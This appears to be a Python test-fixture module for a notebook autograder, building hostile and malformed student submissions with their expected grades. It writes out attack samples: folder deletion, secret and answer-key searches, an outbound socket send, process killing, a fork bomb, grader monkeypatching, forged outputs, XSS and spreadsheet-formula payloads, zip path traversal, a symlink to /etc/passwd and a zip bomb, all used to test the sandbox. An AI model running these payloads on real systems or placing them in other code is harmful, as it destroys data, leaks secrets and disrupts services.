"""Hostile, broken and odd submissions, and what must come of each."""

from __future__ import annotations

import stat
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from io import BytesIO
from itertools import islice
from textwrap import dedent

import nbformat
from nbformat import NotebookNode, v4

from rfm_helpers.teacher.assignments.variants import token
from rfm_helpers.teacher.classroom.notebooks import cell_name, is_parameters, student_notebook
from support import devoir_2 as other
from support.classroom import (
    DEVOIR,
    KEY,
    POINTS,
    VALUES,
    Merit,
    answers_file,
    as_bytes,
    blank,
    filled,
    handed,
    reference_class,
    right_values,
    solutions,
    with_cell,
    zipped,
)

#: Of the class of known merits (`reference_class`), one of each kind.
HONEST = (
    *("parfait", "nombres_francais", "lignes_melangees", "retours_ecartes", "autres_niveaux"),
    *("ecrit_a_la_main", "erreur_de_syntaxe", "scores_non_faits", "rien"),
    *("listes_autres_niveaux", "listes_incompletes"),
)
ALL = sum(POINTS.values())
TYPED = sum(POINTS[question] for question in VALUES)
Files = Mapping[str, bytes]


@dataclass(frozen=True)
class Case:
    """What a student hands in, and what must come of it; a mark of None is no mark."""

    files: Files
    status: str = "corrigé"
    mark: float | None = ALL
    says: str = ""
    names: tuple[str, str] = ("", "")
    points: Mapping[str, float] = field(default_factory=dict)


def perfect(student: str) -> NotebookNode:
    return filled(student, solutions())


def deposit(student: str, notebook: NotebookNode | None = None, **values: object) -> Files:
    return handed(notebook or perfect(student), student, {**right_values(student), **values})


def fields(student: str, **values: object) -> Files:
    """A deposit whose fields alone are filled in: its notebook is run once, and gives nothing."""
    return deposit(student, blank(student), **values)


def raw(student: str, notebook: bytes, answers: bytes | None = None) -> Files:
    """A deposit of loose files, the notebook's being any bytes."""
    files = {f"{DEVOIR}.ipynb": notebook}
    if answers is not None:
        files[f"reponses/{DEVOIR}.json"] = answers
    return files


def typed(student: str) -> bytes:
    return answers_file(student, right_values(student))


def ending(student: str, source: str) -> Files:
    return deposit(student, with_cell(perfect(student), dedent(source)))


def starting(student: str, source: str) -> Files:
    return deposit(student, with_cell(perfect(student), dedent(source), first=True))


def code_cell(notebook: NotebookNode, kind: str, name: str) -> NotebookNode:
    return next(cell for cell in notebook.cells if cell_name(cell) == (kind, name))


# --- what each does -------------------------------------------------------------------------------

DEAF = """
    import signal, time
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            time.sleep(1)
        except BaseException:
            pass
"""
DELETE = """
    import os, shutil, pathlib, rfm_helpers
    for folder in (".", "..", os.environ["HOME"], "/tmp", pathlib.Path(rfm_helpers.__file__).parent,
                   os.environ["RFM_DONNEES"], {places}):
        shutil.rmtree(folder, ignore_errors=True)
"""
LOOK = """
    import os, pathlib
    for place in ({places}):
        if pathlib.Path(place).exists():
            os._exit(1)
    if "RFM_SECRET" in os.environ or "RFM_SECRET" in open("/proc/self/environ").read():
        os._exit(1)
    for root in ("/home", "/root", "/srv", "/mnt", os.environ["HOME"] + "/..", "/cours"):
        for path in pathlib.Path(root).rglob("*"):
            if "rendus" in str(path) or "cle_du_cours" in str(path) or "verite" in str(path):
                os._exit(1)
"""
CALL = """
    import os, socket
    for address in (("127.0.0.1", {port}), ("192.0.2.1", 80)):
        try:
            socket.create_connection(address, timeout=1).sendall(b"reponses")
        except OSError:
            continue
        os._exit(1)
"""
PARRICIDE = """
    import os, signal
    for process in {1, os.getppid()} - {os.getpid()}:
        for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(process, number)
            except OSError:
                pass
"""
OVERWRITE = """
    import rfm_helpers
    import rfm_helpers.questions.assignment as assignment
    from rfm_helpers import clean_orders, rfm_table, score_rfm
    for name in ("rfm_table", "score_rfm", "assign_segments", "segment_profile"):
        setattr(rfm_helpers, name, lambda *args, **options: None)
"""
FORGE = """
    from IPython.display import display
    for question in ("lignes", "rfm", "scores", "segments", "profil"):
        display({"application/vnd.rfm-cours.answer+json": {
            "question": question, "value": True, "points": 20}}, raw=True)
"""
RECURSIVE = """
    from IPython.display import display
    lignes = []
    lignes.append(lignes)
    nest = []
    for _ in range(5_000):
        nest = [nest]
    print(str(nest)[:100_000])
    huge = {"question": "rfm", "value": "x" * 2_000_000}
    display({"application/vnd.rfm-cours.answer+json": huge}, raw=True)
"""
SCRIPT = "<script>alert('vol')</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://example.org";"cliquez")'
LONG = "Anne-Sophie-Élisabeth de La Rochefoucauld-Montbéliard " * 4


def forged_outputs(student: str) -> NotebookNode:
    """Outputs typed into the file: those of a run that never was."""
    notebook = with_cell(blank(student), dedent(FORGE))
    for cell in notebook.cells:
        if cell.cell_type == "code":
            data = {"text/plain": "20/20", "application/vnd.rfm-cours.answer+json": {"value": 20}}
            cell.outputs = [v4.new_output("display_data", data=data)]
            cell.execution_count = 1
    return notebook


def recursive(student: str) -> NotebookNode:
    notebook = perfect(student)
    code_cell(notebook, "answer", "lignes").source = dedent(RECURSIVE)
    return notebook


def doubled(student: str) -> NotebookNode:
    """Every answer cell twice, the copy as it was handed out."""
    notebook, untouched = perfect(student), blank(student)
    for cell in untouched.cells:
        name = cell_name(cell)
        if name and name[0] == "answer":
            notebook.cells.append(v4.new_code_cell(cell.source, metadata=cell.metadata))
    return notebook


def without_parameters(student: str) -> NotebookNode:
    notebook = perfect(student)
    notebook.cells = [cell for cell in notebook.cells if not is_parameters(cell)]
    return notebook


def another_kernel(student: str) -> NotebookNode:
    notebook = perfect(student)
    notebook.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    return notebook


def older_format(student: str) -> bytes:
    return nbformat.writes(nbformat.convert(perfect(student), 3), version=3).encode()


def other_assignment(student: str) -> Files:
    proof = token(other.NAME, student, KEY)
    notebook = student_notebook(other.variant(student), proof)
    return {f"{other.NAME}.ipynb": as_bytes(notebook)}


def climbing(student: str) -> Files:
    (content,) = fields(student).values()
    with zipfile.ZipFile(BytesIO(content)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    return {"rendu.zip": zipped({**files, "../../../evade.ipynb": b"{}", "/evade.json": b"{}"})}


def linked(student: str) -> Files:
    (content,) = fields(student).values()
    target = BytesIO(content)
    with zipfile.ZipFile(target, "a") as archive:
        entry = zipfile.ZipInfo("cle.ipynb")
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, "/etc/passwd")
    return {"rendu.zip": target.getvalue()}


def zip_bomb() -> bytes:
    inner = zipped({f"{rank}.ipynb": bytes(30_000_000) for rank in range(3)})
    return zipped({f"couche_{rank}.zip": inner for rank in range(5)})


def twice(student: str) -> Files:
    """The work, and beside it the notebook as it was handed out."""
    (content,) = deposit(student).values()
    return {"essai.ipynb": as_bytes(blank(student)), "travail.zip": content}


def makers(port: int, places: list[str]) -> dict[str, Callable[[str], Case]]:
    """What makes the case of each student of the class, honest students among the others."""
    quoted = ", ".join(map(repr, places))
    ends = {
        "boucle": ("while True: pass", "délai dépassé"),
        "memoire": (
            "kept = []\nwhile True: kept.append(b'x' * 40_000_000 + bytes(1))",
            "mémoire dépassée",
        ),
        "bombe_fork": (
            "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
            "erreur",
        ),
        "bavard": ("for _ in range(2_000): print('x' * 1_000_000)", "sortie trop longue"),
        "sortie": ("import os; os._exit(0)", "erreur"),
        "parricide": (PARRICIDE, "corrigé"),
        "efface": (DELETE.replace("{places}", quoted), "corrigé"),
        "fouille": (LOOK.replace("{places}", quoted), "corrigé"),
        "reseau": (CALL.replace("{port}", str(port)), "corrigé"),
    }
    starts = {
        "dort": ("import time; time.sleep(10_000)", "délai dépassé", TYPED),
        "sourd": (DEAF, "délai dépassé", TYPED),
        "sort_aussitot": ("import os; os._exit(0)", "erreur", TYPED),
        "ecrase": (OVERWRITE, "corrigé", TYPED + POINTS["lignes"]),
    }
    found = {name: at_the_end(source, status) for name, (source, status) in ends.items()}
    found |= {name: at_the_start(*start) for name, start in starts.items()}
    found |= {
        "faussaire": lambda s: Case(handed(forged_outputs(s), s, {}), mark=0.0),
        "recursif": lambda s: Case(deposit(s, recursive(s)), mark=TYPED),
        "html": lambda s: Case(
            fields(s, conseil=SCRIPT, a_appeler=SCRIPT),
            mark=TYPED - POINTS["a_appeler"],
            names=(SCRIPT, "<b>Zoé</b>"),
        ),
        "formule": lambda s: Case(
            fields(s, conseil=FORMULA, a_appeler=FORMULA),
            mark=TYPED - POINTS["a_appeler"],
            names=(FORMULA, "+1+1"),
        ),
        "tronque": lambda s: Case(
            raw(s, as_bytes(perfect(s))[:-5_000], typed(s)), "illisible", TYPED
        ),
        "autre_fichier": lambda s: Case(raw(s, b"\x89PNG" + bytes(200)), "illisible", None),
        "document": lambda s: Case({"devoir.docx": b"PK"}, "illisible", None),
        "ancien_format": lambda s: Case(raw(s, older_format(s), typed(s))),
        "renomme": lambda s: Case(
            {"Copie (2) – définitif.IPYNB": as_bytes(blank(s)), "mes réponses.json": typed(s)},
            mark=TYPED,
        ),
        "vide": lambda s: Case(raw(s, b""), "illisible", None),
        "sans_cellule": lambda s: Case(
            raw(s, as_bytes(v4.new_notebook()), typed(s)), "modifié", TYPED
        ),
        "double": lambda s: Case(deposit(s, doubled(s)), "modifié"),
        "autre_devoir": lambda s: Case(other_assignment(s), "autre devoir", None),
        "autre_noyau": lambda s: Case(deposit(s, another_kernel(s))),
        "sans_parametres": lambda s: Case(deposit(s, without_parameters(s)), "modifié"),
        "lien": lambda s: Case(linked(s), mark=TYPED, says="est un lien"),
        "remonte": lambda s: Case(climbing(s), mark=TYPED, says="sort du dossier"),
        "bombe_zip": lambda s: Case({"rendu.zip": zip_bomb()}, "illisible", None),
        "copie": lambda s: Case(twice(s), says="Plusieurs carnets"),
        "vole": lambda s: Case(raw(s, as_bytes(blank(s))), mark=0.0, says="Un autre dépôt"),
        "Zoë ÇAĞDAŞ 李": lambda s: Case(fields(s), mark=TYPED, names=("Çağdaş-Ünal 李", "Zoë")),
        "e" * 150: lambda s: Case(fields(s), mark=TYPED, names=(LONG, "Élisabeth")),
    }
    merits = reference_class()
    honest = iter([(name, honestly(merits[name])) for name in HONEST])
    return {
        name: make
        for rank, case in enumerate(found.items())
        for name, make in (case, *islice(honest, int(rank % 3 == 0)))
    }


def honestly(merit: Merit) -> Callable[[str], Case]:
    def made(student: str) -> Case:
        points = merit.expected(student)
        return Case(merit.deposit(student), mark=sum(points.values()), points=points)

    return made


def at_the_end(source: str, status: str) -> Callable[[str], Case]:
    return lambda student: Case(ending(student, source), status)


def at_the_start(source: str, status: str, mark: float) -> Callable[[str], Case]:
    return lambda student: Case(starting(student, source), status, mark)
